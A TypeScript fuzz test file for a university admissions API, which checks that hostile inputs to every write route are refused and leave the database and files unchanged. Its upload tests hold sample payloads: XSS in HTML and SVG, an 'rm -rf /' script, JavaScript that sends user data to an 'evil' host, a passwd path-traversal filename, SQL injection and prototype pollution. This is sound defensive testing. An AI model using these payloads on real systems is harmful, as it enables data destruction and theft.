/**
 * Fuzz: at least 200 seeded hostile inputs per write route, sent by the most
 * privileged caller the route admits. Each must get a 4xx with a string
 * `message` and no stack trace, and afterwards every table (row count and md5
 * of all rows) and the files folder must be exactly as before.
 *
 * Write routes fuzzed elsewhere (auth.test.ts: register, login, request-reset,
 * reset-password, subscribers, PUT /api/users/:id, DELETE /api/users/me) and
 * routes that take no input at all (logout, logout everywhere) are named below, so the list
 * check fails when a new write route appears without fuzzing.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { eq } from 'drizzle-orm';
import { applicationFiles } from '../../src/infrastructure/database/schema';
import { applicationJson, postMultipart, sampleDocuments, type Part } from '../fixtures/applications';
import { samplePdf } from '../fixtures/samples';
import { insertIntake } from '../helpers/intakes';
import { startTestApp, type TestApp } from '../helpers/test-app';
import { createFullWorld, databaseState, folderState, JOBS_AN_HOUR_APART, type FullWorld } from '../helpers/world-full';
import { hostileBodies, hostileIds, isRaw, type FieldKind } from './hostile-inputs';
import { registeredRoutes } from './routes';

const FUZZED_ELSEWHERE = [
  // tus (raw bytes and headers, no JSON body): hostile headers, sizes, offsets and types in uploads.test.ts.
  'POST /api/uploads',
  'PATCH /api/uploads/:id',
  'DELETE /api/uploads/:id',
  'POST /api/auth/register',
  'POST /api/auth/login',
  'POST /api/auth/request-reset',
  'POST /api/auth/reset-password',
  'POST /api/subscribers',
  'PUT /api/users/:id',
  'DELETE /api/users/me',
];
const NO_INPUT = ['POST /api/auth/logout', 'POST /api/auth/logout-everywhere', 'DELETE /api/drafts/mine', 'POST /api/notifications/:id/read', 'POST /api/notifications/read-all'];
const MULTIPART = ['POST /api/applications', 'PUT /api/drafts/mine/files/:documentType', 'POST /api/applications/:id/documents/:documentId'];

interface FuzzRoute {
  method: 'POST' | 'PUT' | 'DELETE';
  route: string;
  url: (w: FullWorld, id?: string) => string;
  /** Valid body, or none for DELETE. */
  valid?: Record<string, unknown>;
  fields?: Record<string, FieldKind>;
  as: 'superuser' | 'owner' | 'admin';
  headers?: Record<string, string>;
}

const text = (max: number): FieldKind => ({ kind: 'text', max });

/** An upcoming intake of university A (made in `before`). */
let intakeA = 0;

function fuzzRoutes(w: FullWorld): FuzzRoute[] {
  return [
    { method: 'POST', route: '/api/universities', url: () => '/api/universities', valid: { name: 'Fuzz University', location: 'Ndola' }, fields: { name: text(200) }, as: 'superuser' },
    {
      method: 'PUT',
      route: '/api/universities/:id',
      url: (x, id) => `/api/universities/${id ?? x.uniA.id}`,
      valid: { name: 'Renamed', location: 'Ndola' },
      fields: { name: text(200) },
      as: 'superuser',
    },
    { method: 'DELETE', route: '/api/universities/:id', url: (_x, id) => `/api/universities/${id}`, as: 'superuser' },
    {
      method: 'POST',
      route: '/api/programs',
      url: () => '/api/programs',
      valid: { name: 'Fuzz Program', description: 'About', duration: 3, universityId: w.uniA.id },
      fields: { name: text(200), description: text(5000) },
      as: 'superuser',
    },
    {
      method: 'PUT',
      route: '/api/programs/:id',
      url: (x, id) => `/api/programs/${id ?? x.programA1.id}`,
      valid: { name: 'Edited', description: 'About', duration: 4 },
      fields: { name: text(200), description: text(5000) },
      as: 'superuser',
    },
    { method: 'DELETE', route: '/api/programs/:id', url: (_x, id) => `/api/programs/${id}`, as: 'superuser' },
    {
      method: 'POST',
      route: '/api/universities/:id/intakes',
      url: (x, id) => `/api/universities/${id ?? x.uniA.id}/intakes`,
      valid: { name: 'Fuzz intake', opensAt: '2093-01-01T00:00:00Z', closesAt: '2093-02-01T00:00:00Z', programs: [{ programId: w.programA1.id, capacity: 2 }] },
      fields: { name: text(120), opensAt: text(40), closesAt: text(40) },
      as: 'superuser',
    },
    {
      method: 'PUT',
      route: '/api/intakes/:id',
      url: (_x, id) => `/api/intakes/${id ?? intakeA}`,
      valid: { name: 'Fuzz intake edited', opensAt: '2094-01-01T00:00:00Z', closesAt: '2094-02-01T00:00:00Z', programs: [{ programId: w.programA1.id, capacity: 2 }] },
      fields: { name: text(120), opensAt: text(40), closesAt: text(40) },
      as: 'superuser',
    },
    { method: 'DELETE', route: '/api/intakes/:id', url: (_x, id) => `/api/intakes/${id}`, as: 'superuser' },
    {
      method: 'POST',
      route: '/api/courses',
      url: () => '/api/courses',
      valid: { courseName: 'Fuzz', courseDescription: 'About', semesterToBeDone: 1, yearToBeStudied: 1, programId: w.programA1.id },
      fields: { courseName: text(200), courseDescription: text(5000), programId: { kind: 'id' }, semesterToBeDone: { kind: 'small-int', max: 20 }, yearToBeStudied: { kind: 'small-int', max: 10 } },
      as: 'superuser',
    },
    {
      method: 'PUT',
      route: '/api/courses/:id',
      url: (x, id) => `/api/courses/${id ?? x.courseA1.id}`,
      valid: { courseName: 'Edited', courseDescription: 'About', sermisterToBeDone: 2, yearToBeStudied: 2 },
      fields: { courseName: text(200), courseDescription: text(5000), sermisterToBeDone: { kind: 'small-int', max: 20 }, yearToBeStudied: { kind: 'small-int', max: 10 } },
      as: 'superuser',
    },
    { method: 'DELETE', route: '/api/courses/:id', url: (_x, id) => `/api/courses/${id}`, as: 'superuser' },
    {
      method: 'PUT',
      route: '/api/applications/:id',
      url: (x, id) => `/api/applications/${id ?? x.applicationA}`,
      valid: { status: 'Rejected', reviewNotes: 'Missing results' },
      fields: { status: { kind: 'status' }, reviewNotes: text(5000) },
      as: 'superuser',
    },
    {
      method: 'PUT',
      route: '/api/applications/:id/documents/:documentId',
      url: (x, id) => `/api/applications/${id ?? x.applicationA}/documents/${x.fileA.id}`,
      valid: { status: 'REJECTED', reason: 'Blurred photo' },
      fields: { reason: text(500) },
      as: 'superuser',
    },
    {
      method: 'POST',
      route: '/api/applications/:id/notes',
      url: (x, id) => `/api/applications/${id ?? x.applicationA}/notes`,
      valid: { text: 'Results look genuine' },
      fields: { text: text(2000) },
      as: 'superuser',
    },
    {
      method: 'PUT',
      route: '/api/applications/:id/assignee',
      url: (x, id) => `/api/applications/${id ?? x.applicationA}/assignee`,
      valid: { userId: w.superuser.id },
      fields: { userId: { kind: 'nullable-id' } },
      as: 'superuser',
    },
    {
      method: 'POST',
      route: '/api/applications/bulk',
      url: () => '/api/applications/bulk',
      valid: { action: 'decline', reason: 'Incomplete results', ids: [w.applicationA] },
      fields: { action: { kind: 'status' }, reason: text(5000) },
      as: 'superuser',
    },
    // Offers (issue 17): the applicant's answer takes an id and nothing else (no offer exists here, so nothing can change).
    { method: 'POST', route: '/api/offers/:id/accept', url: (_x, id) => `/api/offers/${id ?? 999999}/accept`, as: 'owner' },
    { method: 'POST', route: '/api/offers/:id/decline', url: (_x, id) => `/api/offers/${id ?? 999999}/decline`, as: 'owner' },
    // Only an ADMIN blocks an applicant from its university.
    {
      method: 'PUT',
      route: '/api/users/:id/university-block',
      url: (x, id) => `/api/users/${id ?? x.userA.id}/university-block`,
      valid: { blocked: true },
      fields: { blocked: { kind: 'bool' } },
      as: 'admin',
    },
    {
      method: 'POST',
      route: '/api/contact',
      url: () => '/api/contact',
      valid: { name: 'Mutale Banda', email: 'ask@example.test', subject: 'A question', message: 'When does the next intake open?' },
      fields: { name: text(200), subject: text(200), message: text(5000) },
      as: 'owner',
    },
    // Settings: every hostile value is refused before a password is checked or a code is mailed.
    {
      method: 'PUT',
      route: '/api/users/me/password',
      url: () => '/api/users/me/password',
      valid: { currentPassword: 'Not-the-password-1', newPassword: 'Another-Pass-5521' },
      fields: { currentPassword: text(1024), newPassword: text(128) },
      as: 'owner',
    },
    {
      method: 'POST',
      route: '/api/users/me/contact-change',
      url: () => '/api/users/me/contact-change',
      valid: { kind: 'email', value: 'changed@example.test' },
      fields: { value: text(254) },
      as: 'owner',
    },
    {
      method: 'POST',
      route: '/api/users/me/contact-change/confirm',
      url: () => '/api/users/me/contact-change/confirm',
      valid: { ticket: 'not-a-ticket', code: '123456' },
      fields: { ticket: text(2048), code: text(6) },
      as: 'owner',
    },
    // The owner has a newer draft than the stale version sent: a body that passes the checks is still refused (409), so nothing changes.
    {
      method: 'PUT',
      route: '/api/drafts/mine',
      url: () => '/api/drafts/mine',
      valid: { fullName: 'Fuzz Draft', updatedAt: '2001-01-01T00:00:00.000Z' },
      fields: { fullName: text(200), city: text(100), programNotes: text(5000), step: { kind: 'small-int', max: 4 }, universityId: { kind: 'id' } },
      as: 'owner',
    },
    { method: 'DELETE', route: '/api/drafts/mine/files/:documentType', url: (_x, id) => `/api/drafts/mine/files/${id}`, as: 'owner' },
    // Fee waiver codes: an expiry in the past (a body that passes the checks is still refused), and a code nobody made.
    {
      method: 'POST',
      route: '/api/universities/:id/fee-waivers',
      url: (x, id) => `/api/universities/${id ?? x.uniA.id}/fee-waivers`,
      valid: { maxUses: 1, expiresAt: '2001-01-01T00:00:00Z' },
      fields: { expiresAt: text(40), maxUses: { kind: 'small-int', max: 10000 } },
      as: 'superuser',
    },
    {
      method: 'POST',
      route: '/api/applications/:id/fee-waiver',
      url: (x, id) => `/api/applications/${id ?? x.applicationA}/fee-waiver`,
      valid: { code: 'ABCDEFGH' },
      fields: { code: text(40) },
      as: 'owner',
    },
    {
      method: 'POST',
      route: '/api/auth/request-reset-code',
      url: () => '/api/auth/request-reset-code',
      valid: { phone: '0955123456' },
      fields: { phone: text(32) },
      as: 'owner',
    },
    {
      method: 'POST',
      route: '/api/auth/reset-password-code',
      url: () => '/api/auth/reset-password-code',
      valid: { phone: '0955123456', code: '123456', newPassword: 'Fresh-Passphrase-93' },
      fields: { phone: text(32), code: text(6) },
      as: 'owner',
    },
    {
      method: 'PUT',
      route: '/api/users/me/notification-preferences',
      url: () => '/api/users/me/notification-preferences',
      valid: { events: [{ event: 'PAYMENT', sms: true, email: true }] },
      fields: { events: text(10) },
      as: 'owner',
    },
    {
      // No secret is configured in tests: whatever the body, 404 (and 400 for a spoiled one).
      method: 'POST',
      route: '/api/sms/delivery-reports',
      url: () => '/api/sms/delivery-reports?key=guess',
      valid: { id: 'ATXid_1', status: 'Success' },
      fields: { id: text(100), status: text(40) },
      as: 'superuser',
    },
    { method: 'POST', route: '/api/payments/initiate', url: () => '/api/payments/initiate', valid: { applicationId: w.applicationA }, fields: { applicationId: { kind: 'id' } }, as: 'owner' },
    {
      method: 'POST',
      route: '/api/payments/webhook',
      url: () => '/api/payments/webhook',
      valid: { event: 'collection.successful', data: { reference: w.paymentA.reference, status: 'successful' } },
      fields: { event: text(100) },
      as: 'superuser',
      headers: { 'x-lenco-signature': 'f'.repeat(64) },
    },
  ];
}

function assertRefused(res: { statusCode: number; body: string; headers: Record<string, unknown> }, where: string, problems: string[]) {
  if (res.statusCode < 400 || res.statusCode >= 500) {
    problems.push(`${where}: status ${res.statusCode} ${res.body.slice(0, 120)}`);
    return;
  }
  let body: { message?: unknown };
  try {
    body = JSON.parse(res.body) as { message?: unknown };
  } catch {
    problems.push(`${where}: not JSON: ${res.body.slice(0, 80)}`);
    return;
  }
  if (typeof body.message !== 'string' || body.message.length === 0) problems.push(`${where}: no message`);
  if (/\bat \S+ \(|\.ts:\d+|node_modules|stack/i.test(res.body)) problems.push(`${where}: stack trace text`);
}

describe('fuzz of every write route', () => {
  let t: TestApp;
  let w: FullWorld;
  before(async () => {
    t = await startTestApp(JOBS_AN_HOUR_APART);
    w = await createFullWorld(t);
    intakeA = await insertIntake(t, w.uniA.id, [w.programA1.id]);
    const draft = await t.app.inject({ method: 'PUT', url: '/api/drafts/mine', headers: { authorization: `Bearer ${w.userA.token}` }, payload: { fullName: 'Owner Draft', updatedAt: null } });
    assert.equal(draft.statusCode, 200, draft.body);
  });
  after(async () => t.close());

  it('covers every registered write route (here, in auth.test.ts, or as the multipart set)', () => {
    const fuzzed = new Set(fuzzRoutes(w).map((r) => `${r.method} ${r.route}`));
    const writes = registeredRoutes(t.app)
      .filter((r) => r.url.startsWith('/api') && ['POST', 'PUT', 'DELETE', 'PATCH'].includes(r.method))
      .map((r) => `${r.method} ${r.url}`);
    const uncovered = writes.filter((r) => !fuzzed.has(r) && !FUZZED_ELSEWHERE.includes(r) && !NO_INPUT.includes(r) && !MULTIPART.includes(r));
    assert.deepEqual(uncovered, []);
    assert.ok(writes.length >= 20);
  });

  for (const [index, name] of [
    'POST /api/universities',
    'PUT /api/universities/:id',
    'DELETE /api/universities/:id',
    'POST /api/programs',
    'PUT /api/programs/:id',
    'DELETE /api/programs/:id',
    'POST /api/universities/:id/intakes',
    'PUT /api/intakes/:id',
    'DELETE /api/intakes/:id',
    'POST /api/courses',
    'PUT /api/courses/:id',
    'DELETE /api/courses/:id',
    'PUT /api/applications/:id',
    'PUT /api/applications/:id/documents/:documentId',
    'POST /api/applications/:id/notes',
    'PUT /api/users/:id/university-block',
    'POST /api/payments/initiate',
    'POST /api/payments/webhook',
    'PUT /api/drafts/mine',
    'DELETE /api/drafts/mine/files/:documentType',
    'POST /api/universities/:id/fee-waivers',
    'POST /api/applications/:id/fee-waiver',
    'PUT /api/applications/:id/assignee',
    'POST /api/applications/bulk',
    'POST /api/auth/request-reset-code',
    'POST /api/auth/reset-password-code',
    'PUT /api/users/me/notification-preferences',
    'POST /api/sms/delivery-reports',
    'POST /api/offers/:id/accept',
    'POST /api/offers/:id/decline',
  ].entries()) {
    it(`${name}: 200+ hostile inputs → 4xx with a message, database and files unchanged`, async () => {
      const route = fuzzRoutes(w).find((r) => `${r.method} ${r.route}` === name)!;
      const token = route.as === 'owner' ? w.userA.token : route.as === 'admin' ? w.adminA.token : w.superuser.token;
      const beforeDb = await databaseState(t);
      const beforeFiles = folderState(t.dataDir);
      const problems: string[] = [];
      let sent = 0;
      const send = async (url: string, body: unknown, label: string) => {
        const raw = isRaw(body);
        const res = await t.app.inject({
          method: route.method,
          url,
          headers: {
            authorization: `Bearer ${token}`,
            ...(route.headers ?? {}),
            ...(raw ? { 'content-type': body.contentType ?? 'application/json' } : body !== undefined ? { 'content-type': 'application/json' } : {}),
          },
          ...(raw ? { payload: body.raw } : body !== undefined ? { payload: JSON.stringify(body) } : {}),
        });
        sent += 1;
        assertRefused(res, `${name} #${label}`, problems);
      };
      const ids = hostileIds();
      if (route.valid && route.fields) {
        const bodies = hostileBodies(route.valid, route.fields, 9000 + index);
        for (const [i, body] of bodies.entries()) await send(route.url(w), body, String(i));
        // A valid body on a hostile id.
        if (route.route.includes(':id')) for (const id of ids) await send(route.url(w, id), route.valid, `id ${id}`);
      } else {
        // DELETE: hostile ids, with and without hostile bodies and query strings.
        const bodies = hostileBodies({ name: 'x' }, { name: text(10) }, 9000 + index, 100);
        for (const [i, id] of ids.entries()) {
          await send(route.url(w, id), undefined, `id ${id}`);
          await send(`${route.url(w, id)}?cascade=true&force=1`, bodies[i % bodies.length], `id ${id} + body`);
        }
        for (const [i, body] of bodies.entries()) await send(route.url(w, ids[i % ids.length]), body, `body ${i}`);
      }
      assert.ok(sent >= 200, `only ${sent} inputs`);
      assert.deepEqual(problems, []);
      const afterDb = await databaseState(t);
      if (route.route === '/api/payments/webhook') {
        // Refused webhooks are audited on purpose (who tried, from where); nothing else may change.
        assert.notEqual(afterDb.audit_log, beforeDb.audit_log, 'refused webhooks are audited');
        delete afterDb.audit_log;
        delete beforeDb.audit_log;
      }
      assert.deepEqual(afterDb, beforeDb, 'the database changed');
      assert.deepEqual(folderState(t.dataDir), beforeFiles, 'the files folder changed');
    });
  }

  describe('the multipart upload', () => {
    const html = Buffer.from('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>');
    const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
    const script = Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n');
    const js = Buffer.from('fetch("/api/users").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))');
    const appPart = (w0: FullWorld): Part => ({ name: 'application', value: JSON.stringify(applicationJson([w0.programA1.id])) });
    const withFirstReplaced = (value: Buffer, filename: string, contentType = 'application/pdf'): Part[] => {
      const docs = sampleDocuments();
      docs[0] = { name: 'files', value, filename, contentType };
      return docs;
    };

    it('refuses HTML, SVG, a script and JavaScript named .pdf with 415, and stores nothing', async () => {
      const beforeDb = await databaseState(t);
      const beforeFiles = folderState(t.dataDir);
      for (const [value, filename] of [
        [html, 'results.pdf'],
        [svg, 'nrc.pdf'],
        [script, 'certificate.pdf'],
        [js, 'nrc-front.pdf'],
        [svg, 'nrc.png'],
        [html, '../../../etc/passwd.pdf'],
      ] as Array<[Buffer, string]>) {
        const res = await postMultipart(t, w.userA.token, [appPart(w), ...withFirstReplaced(value, filename)]);
        assert.equal(res.statusCode, 415, `${filename}: ${res.body}`);
        assert.equal(typeof res.json().message, 'string');
      }
      assert.deepEqual(await databaseState(t), beforeDb);
      assert.deepEqual(folderState(t.dataDir), beforeFiles);
    });

    it('refuses HTML, SVG and a script as the new file of a rejected document with 415, and stores nothing', async () => {
      await t.ctx.db.update(applicationFiles).set({ status: 'REJECTED', reason: 'Blurred' }).where(eq(applicationFiles.id, w.fileA.id));
      const beforeDb = await databaseState(t);
      const beforeFiles = folderState(t.dataDir);
      for (const [value, filename] of [
        [html, 'nrc.png'],
        [svg, 'nrc.pdf'],
        [script, 'nrc.jpg'],
      ] as Array<[Buffer, string]>) {
        const res = await postMultipart(t, w.userA.token, [{ name: 'file', value, filename, contentType: 'image/png' }], `/api/applications/${w.applicationA}/documents/${w.fileA.id}`);
        assert.equal(res.statusCode, 415, `${filename}: ${res.body}`);
        assert.equal(typeof res.json().message, 'string');
      }
      const tooBig = await postMultipart(
        t,
        w.userA.token,
        [{ name: 'file', value: samplePdf(t.config.uploads.maxFileBytes + 1024), filename: 'r.pdf', contentType: 'application/pdf' }],
        `/api/applications/${w.applicationA}/documents/${w.fileA.id}`,
      );
      assert.equal(tooBig.statusCode, 413, tooBig.body);
      assert.deepEqual(await databaseState(t), beforeDb);
      assert.deepEqual(folderState(t.dataDir), beforeFiles);
      await t.ctx.db.update(applicationFiles).set({ status: 'PENDING', reason: null }).where(eq(applicationFiles.id, w.fileA.id));
    });

    it('refuses an oversize file with 413 and stores nothing', async () => {
      const beforeDb = await databaseState(t);
      const beforeFiles = folderState(t.dataDir);
      const big = samplePdf(t.config.uploads.maxFileBytes + 1024);
      const res = await postMultipart(t, w.userA.token, [appPart(w), ...withFirstReplaced(big, 'results.pdf')]);
      assert.equal(res.statusCode, 413, res.body);
      assert.equal(typeof res.json().message, 'string');
      assert.deepEqual(await databaseState(t), beforeDb);
      assert.deepEqual(folderState(t.dataDir), beforeFiles);
    });

    it('refuses missing parts, bad JSON, five files and wrong field names with a 4xx, and stores nothing', async () => {
      const beforeDb = await databaseState(t);
      const beforeFiles = folderState(t.dataDir);
      const docs = sampleDocuments();
      const cases: Array<[string, Part[]]> = [
        ['no parts at all', []],
        ['no application part', docs],
        ['no files', [appPart(w)]],
        ['three files', [appPart(w), ...docs.slice(0, 3)]],
        ['five files', [appPart(w), ...docs, { ...docs[2]!, filename: 'extra.pdf' }]],
        ['bad JSON', [{ name: 'application', value: '{"programIds": [1,' }, ...docs]],
        ['JSON of the wrong shape', [{ name: 'application', value: '[1,2,3]' }, ...docs]],
        ['hostile JSON', [{ name: 'application', value: JSON.stringify(applicationJson([w.programA1.id], { fullName: "'; DROP TABLE users; --".repeat(200), status: 'APPROVED' })) }, ...docs]],
        ['__proto__ in JSON', [{ name: 'application', value: `{"__proto__":{"role":"SUPERUSER"},${JSON.stringify(applicationJson([w.programA1.id])).slice(1)}` }, ...docs]],
        ['wrong file field name', [appPart(w), ...docs.map((d) => ({ ...d, name: 'documents' }))]],
        ['wrong application field name', [{ ...appPart(w), name: 'app' }, ...docs]],
        ['file in the application field', [{ name: 'application', value: samplePdf(), filename: 'a.pdf', contentType: 'application/pdf' }, ...docs]],
        ['programs of two universities', [{ name: 'application', value: JSON.stringify(applicationJson([w.programA1.id, w.programB1.id])) }, ...docs]],
        ['a program that does not exist', [{ name: 'application', value: JSON.stringify(applicationJson([2_000_000_000])) }, ...docs]],
        ['traversal in programIds', [{ name: 'application', value: JSON.stringify(applicationJson(['../1' as unknown as number])) }, ...docs]],
      ];
      for (const [label, parts] of cases) {
        const res = await postMultipart(t, w.userA.token, parts);
        assert.ok(res.statusCode >= 400 && res.statusCode < 500, `${label}: ${res.statusCode} ${res.body}`);
        assert.equal(typeof res.json().message, 'string', label);
      }
      // Not multipart at all.
      const json = await t.app.inject({ method: 'POST', url: '/api/applications', headers: { authorization: `Bearer ${w.userA.token}` }, payload: applicationJson([w.programA1.id]) });
      assert.ok(json.statusCode >= 400 && json.statusCode < 500, json.body);
      assert.deepEqual(await databaseState(t), beforeDb);
      assert.deepEqual(folderState(t.dataDir), beforeFiles);
    });
  });
});
